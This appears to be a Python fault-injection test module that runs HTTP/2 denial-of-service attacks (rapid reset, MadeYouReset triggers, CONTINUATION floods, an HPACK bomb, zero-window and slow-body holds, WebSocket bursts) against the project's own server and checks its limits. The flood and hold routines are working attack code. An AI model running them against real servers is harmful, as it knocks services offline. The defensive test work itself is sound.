"""Floods and holds over HTTP/2 (prior knowledge, cleartext)."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable, Mapping
from typing import Any

from tests.faults.campaign.model import Attack, Bars, Outcome, Target
from tests.faults.campaign.wires import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    WINDOW_UPDATE,
    Http2,
    flood,
    frame,
    head,
    hold,
    kinds,
    settings,
)

CANCEL = struct.pack("!I", 8)
ONE = struct.pack("!I", 1)
MOST = struct.pack("!I", 2**31 - 1)
#: Frames in one write.
BATCH = 50
#: Frames on one connection that the server does not end.
PER_CONNECTION = 100_000


def rapid_reset(target: Target) -> Outcome:
    def attack(client: Http2, _: int) -> int:
        block = head("/wait")
        sent = 0
        while sent < PER_CONNECTION:
            data = b""
            for _ in range(BATCH):
                stream = client.stream()
                data += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
                data += frame(RST_STREAM, 0, stream, CANCEL)
            sent += BATCH
            if not client.send(data):
                break
        return sent

    return flood(target, attack)


def rapid_reset_paced(target: Target) -> Outcome:
    """The server has begun each request when it is reset: no reset finds one that waits."""

    def attack(client: Http2, _: int) -> int:
        block = head("/wait")
        sent = 0
        while sent < PER_CONNECTION:
            streams = [client.stream() for _ in range(BATCH)]
            heads = (frame(HEADERS, END_HEADERS | END_STREAM, one, block) for one in streams)
            sent += BATCH
            if not client.through(b"".join(heads)):
                break
            if not client.send(b"".join(frame(RST_STREAM, 0, one, CANCEL) for one in streams)):
                break
        return sent

    return flood(target, attack)


#: What makes a server reset a stream itself (CVE-2025-8671), each on a live stream.
TRIGGERS: list[Callable[[int], bytes]] = [
    lambda stream: frame(WINDOW_UPDATE, 0, stream, MOST),
    lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)),
    lambda stream: frame(DATA, 0, stream, b"after the end"),
    lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x82"),
    lambda stream: frame(PRIORITY, 0, stream, struct.pack("!IB", stream, 1)),
    lambda stream: frame(PRIORITY, 0, stream, b"\0\0"),
]


def made_you_reset(target: Target) -> Outcome:
    def attack(client: Http2, number: int) -> int:
        trigger = TRIGGERS[number % len(TRIGGERS)]
        block = head("/wait")
        sent = 0
        while sent < PER_CONNECTION:
            data = b""
            for _ in range(BATCH):
                stream = client.stream()
                data += frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + trigger(stream)
            sent += BATCH
            if not client.send(data):
                break
        return sent

    return flood(target, attack)


def repeated(
    piece: bytes, before: Callable[[Http2], bytes] | None = None
) -> Callable[[Target], Outcome]:
    """A flood of one frame: as fast as the server reads, and without reading what it answers."""

    def run(target: Target) -> Outcome:
        def attack(client: Http2, number: int) -> int:
            if before is not None and not client.send(before(client)):
                return 0
            sent = 0
            data = piece * (20 * BATCH)
            while sent < PER_CONNECTION:
                sent += 20 * BATCH
                if not (
                    client.through(data) if number % 2 == 0 else client.send(data, reading=False)
                ):
                    break
            if before is not None:
                # What was sent without reading is still to be read by the server, which ends the connection then.
                client.finish()
            return sent

        return flood(target, attack)

    return run


def continuation(target: Target) -> Outcome:
    # Never-indexed literals of a kilobyte each; END_HEADERS never comes. Every other connection sends empty ones.
    field = b"\x10\x01a\x7f\x81\x07" + b"x" * 1024

    def attack(client: Http2, number: int) -> int:
        stream = client.stream()
        client.send(frame(HEADERS, END_STREAM, stream, head("/hello")))
        piece = frame(CONTINUATION, 0, stream, field if number % 2 == 0 else b"") * BATCH
        sent = 0
        while sent < PER_CONNECTION:
            sent += BATCH
            if not client.send(piece):
                break
        return sent

    return flood(target, attack)


def posting(path: str) -> Callable[[Http2], bytes]:
    """Begins a request whose body is stream 1's."""

    def begin(client: Http2) -> bytes:
        return frame(HEADERS, END_HEADERS, client.stream(), head(path, method="POST"))

    return begin


def one_byte_data(target: Target) -> Outcome:
    """Bodies of one-byte frames: to a handler that reads them, and to one that does not, on 100 streams."""

    def attack(client: Http2, number: int) -> int:
        path = "/upload" if number % 2 == 0 else "/wait"
        streams = [client.stream() for _ in range(100)]
        block = head(path, method="POST")
        client.send(b"".join(frame(HEADERS, END_HEADERS, one, block) for one in streams))
        data = b"".join(frame(DATA, 0, one, b"x") for one in streams) * 10
        sent = 0
        while sent < 10 * PER_CONNECTION:
            sent += 1000
            if not client.through(data):
                break
        return sent

    return flood(target, attack)


def hpack_bomb(target: Target) -> Outcome:
    """A field of 3 KiB in the dynamic table, named 15,000 times by a byte each, and nothing can leave."""

    def make(connection: int) -> socket.socket:
        client = Http2(target.port, settings(window=0))
        seed = b"\x40\x01a\x7f\xb9\x16" + b"x" * 3000
        for number in range(50):
            # Every other connection stays within all limits of lists, and only its answers cannot leave.
            names = b"\xbe" * 15_000 if connection % 2 == 0 else b""
            block = head("/stream") + (seed if number == 0 else b"") + names
            stream = client.stream()
            pieces = [block[at : at + 16384] for at in range(0, len(block), 16384)]
            data = frame(
                HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0]
            )
            for index, piece in enumerate(pieces[1:], 2):
                data += frame(
                    CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream, piece
                )
            if not client.send(data):
                break
        return client.wire

    return hold(target, make)


def zero_window(target: Target) -> Outcome:
    """Endless responses to a client that opens no window."""

    def make(_: int) -> socket.socket:
        client = Http2(target.port, settings(window=0))
        for _ in range(100):
            client.send(frame(HEADERS, END_HEADERS | END_STREAM, client.stream(), head("/stream")))
        return client.wire

    return hold(target, make)


def shielded_window(target: Target) -> Outcome:
    """As :func:`zero_window`, and a small stream moves on now and then: the connection never stalls whole."""

    def make(_: int) -> socket.socket:
        client = Http2(target.port, settings(window=0))
        for number in range(100):
            client.send(
                frame(
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    client.stream(),
                    head("/stream" if number else "/hello"),
                )
            )
        return client.wire

    streams: dict[str, int] = {"next": 201}

    def drip(_: int) -> bytes:
        # A new small request, whose answer is let through: its piece is taken.
        stream = streams["next"]
        streams["next"] += 2
        request = frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/hello"))
        return request + frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", 5))

    # Each of the stalled ones is reset: the connection may go on.
    return hold(
        target,
        make,
        drip=drip,
        every=0.25,
        rid=lambda heard: kinds(heard).count(RST_STREAM) >= 99,
    )


def slow_body(declared: int | None) -> Callable[[Target], Outcome]:
    """Request bodies of a byte every half second."""

    def run(target: Target) -> Outcome:
        def make(_: int) -> socket.socket:
            client = Http2(target.port)
            more: tuple[tuple[str, str], ...] = ()
            if declared is not None:
                more = (("content-length", str(declared)),)
            block = head("/upload", *more, method="POST")
            client.send(frame(HEADERS, END_HEADERS, client.stream(), block), reading=False)
            return client.wire

        # An answer or a reset of the one stream: the connection may go on.
        return hold(
            target,
            make,
            drip=lambda _: frame(DATA, 0, 1, b"x"),
            rid=lambda heard: bool({HEADERS, RST_STREAM} & set(kinds(heard))),
        )

    return run


def half_preface(target: Target) -> Outcome:
    from tests.faults.campaign.wires import PREFACE, connect

    def make(_: int) -> socket.socket:
        wire = connect(target.port)
        wire.sendall(PREFACE[:20])
        return wire

    return hold(target, make)


def preface_alone(target: Target) -> Outcome:
    def make(_: int) -> socket.socket:
        return Http2(target.port).wire

    return hold(target, make)


def websocket_burst(target: Target) -> Outcome:
    """200 WebSockets at once on one connection (RFC 8441), to a handler that sends and sends; nobody reads."""
    upgrade = b"\x02\x07CONNECT\x06\x04http\x01\x01x\x04\x08/ws-send"
    for name, value in ((b":protocol", b"websocket"), (b"sec-websocket-version", b"13")):
        upgrade += b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    def make(_: int) -> socket.socket:
        client = Http2(target.port, settings(window=0))
        heads = (frame(HEADERS, END_HEADERS, client.stream(), upgrade) for _ in range(200))
        client.send(b"".join(heads))
        return client.wire

    return hold(target, make, rid=lambda heard: kinds(heard).count(RST_STREAM) >= 200)


def _ended(outcome: Outcome, before: Mapping[str, int], after: Mapping[str, int]) -> str | None:
    if (
        outcome.ended < 0.9 * outcome.connections - 1
    ):  # the last one may have been ended by the attacker
        return f"only {outcome.ended} of {outcome.connections} connections were ended"
    return None


_ENDED = Bars(check=_ended)
_FLOOD: dict[str, Any] = {"unit": "frames", "speaks": "http/2", "small": 20_000, "full": 1_000_000}

ATTACKS = [
    Attack(
        name="rapid_reset",
        title="HEADERS + RST_STREAM in one packet (CVE-2023-44487)",
        run=rapid_reset,
        unit="requests",
        small=5_000,
        full=100_000,
        speaks="http/2",
        expected="GOAWAY after `h2_pending_resets`; few handlers",
        bars=Bars(handlers_per_unit=0.1, check=_ended),
    ),
    Attack(
        name="rapid_reset_paced",
        title="the same, reset once the server has begun them",
        run=rapid_reset_paced,
        unit="requests",
        small=5_000,
        full=100_000,
        speaks="http/2",
        expected="GOAWAY after `h2_resets` in a second",
        # As many resets as are allowed, and `h2_streams` that had been begun when there was one more.
        bars=Bars(handlers_per_connection=400, check=_ended),
    ),
    Attack(
        name="made_you_reset",
        title="the server made to reset live streams, six ways (CVE-2025-8671)",
        run=made_you_reset,
        unit="requests",
        small=5_000,
        full=100_000,
        speaks="http/2",
        expected="GOAWAY or reset, handlers bounded",
        bars=Bars(handlers_per_unit=0.5, check=_ended),
    ),
    Attack(
        name="continuation",
        title="CONTINUATION without end, of a KiB and empty",
        run=continuation,
        expected="connection ended",
        bars=_ENDED,
        **_FLOOD,
    ),
    Attack(
        name="ping",
        title="PING, answers read and not read",
        run=repeated(frame(PING, 0, 0, b"12345678")),
        expected="flat memory",
        **_FLOOD,
    ),
    Attack(
        name="settings",
        title="SETTINGS, acknowledgements read and not read",
        run=repeated(settings(window=65535)),
        expected="flat memory",
        **_FLOOD,
    ),
    Attack(
        name="priority",
        title="PRIORITY",
        run=repeated(frame(PRIORITY, 0, 3, struct.pack("!IB", 0, 1))),
        expected="flat memory",
        **_FLOOD,
    ),
    Attack(
        name="empty_data",
        title="DATA without data",
        run=repeated(frame(DATA, 0, 1), posting("/upload")),
        expected="connection ended",
        bars=Bars(handlers=100_000, check=_ended),
        **_FLOOD,
    ),
    Attack(
        name="one_byte_data",
        title="DATA of one byte on 100 streams, read and unread by the handler",
        run=one_byte_data,
        expected="flat memory or connection ended",
        bars=Bars(memory=128, handlers=1_000_000),
        **_FLOOD,
    ),
    Attack(
        name="window_update",
        title="WINDOW_UPDATE of 1",
        run=repeated(frame(WINDOW_UPDATE, 0, 0, ONE)),
        expected="flat memory",
        **_FLOOD,
    ),
    Attack(
        name="hpack_bomb",
        title="HPACK bomb on 50 streams a connection, window of zero (CVE-2026-49975)",
        run=hpack_bomb,
        unit="connections",
        small=5,
        full=100,
        speaks="http/2",
        limits={"write_stall_ms": 2_000},
        expected="431; held streams ended by `write_stall_ms`",
        # 25 streams of each connection hold a response within `send_window`.
        bars=Bars(memory=1_800, handlers=1_000_000, reaped=6.0),
    ),
    Attack(
        name="h2_zero_window",
        title="100 endless responses a connection, window of zero",
        run=zero_window,
        unit="connections",
        small=2,
        full=10,
        speaks="http/2",
        limits={"write_stall_ms": 2_000},
        expected="ended by `write_stall_ms`; `send_window` a stream",
        bars=Bars(memory=600, handlers=100_000, reaped=6.0),
    ),
    Attack(
        name="h2_shielded_window",
        title="the same, while one small stream moves on",
        run=shielded_window,
        unit="connections",
        small=2,
        full=10,
        speaks="http/2",
        limits={"write_stall_ms": 2_000},
        expected="stalled streams ended by `write_stall_ms`",
        bars=Bars(memory=600, handlers=100_000, reaped=6.0),
    ),
    Attack(
        name="h2_slow_body",
        title="request bodies of 2 bytes/s over HTTP/2",
        run=slow_body(None),
        unit="connections",
        small=50,
        full=1_000,
        speaks="http/2",
        limits={"body_grace_ms": 1_000, "head_ms": 1_000},
        expected="ended by `body_rate`",
        bars=Bars(handlers=1_000_000, reaped=6.0),
    ),
    Attack(
        name="h2_slow_small_body",
        title="the same with a content-length of 1,000",
        run=slow_body(1_000),
        unit="connections",
        small=50,
        full=1_000,
        speaks="http/2",
        limits={"body_grace_ms": 1_000, "head_ms": 1_000},
        expected="ended by `body_rate`, before a handler is called",
        bars=Bars(handlers=0, reaped=6.0),
    ),
    Attack(
        name="h2_websocket_burst",
        title="200 WebSockets at once on one connection, window of zero, while the handler sends",
        run=websocket_burst,
        unit="connections",
        small=1,
        full=4,
        speaks="websocket over http/2",
        limits={"write_stall_ms": 2_000},
        expected="ended by `write_stall_ms`; memory bounded",
        bars=Bars(memory=1_000, handlers=1_000_000, reaped=8.0),
    ),
    Attack(
        name="half_preface",
        title="half an HTTP/2 preface",
        run=half_preface,
        unit="connections",
        small=100,
        full=2_000,
        speaks="http/2",
        limits={"detection_ms": 1_000},
        expected="ended by `detection_ms`",
        bars=Bars(handlers=0, reaped=3.0),
    ),
    Attack(
        name="h2_idle",
        title="a whole preface and then silence",
        run=preface_alone,
        unit="connections",
        small=100,
        full=2_000,
        speaks="http/2",
        limits={"idle_ms": 1_000, "h2_ping_ms": 1_000},
        expected="ended by `idle_ms` or an unanswered ping",
        bars=Bars(handlers=0, reaped=4.0),
    ),
]

__all__ = ["ATTACKS"]
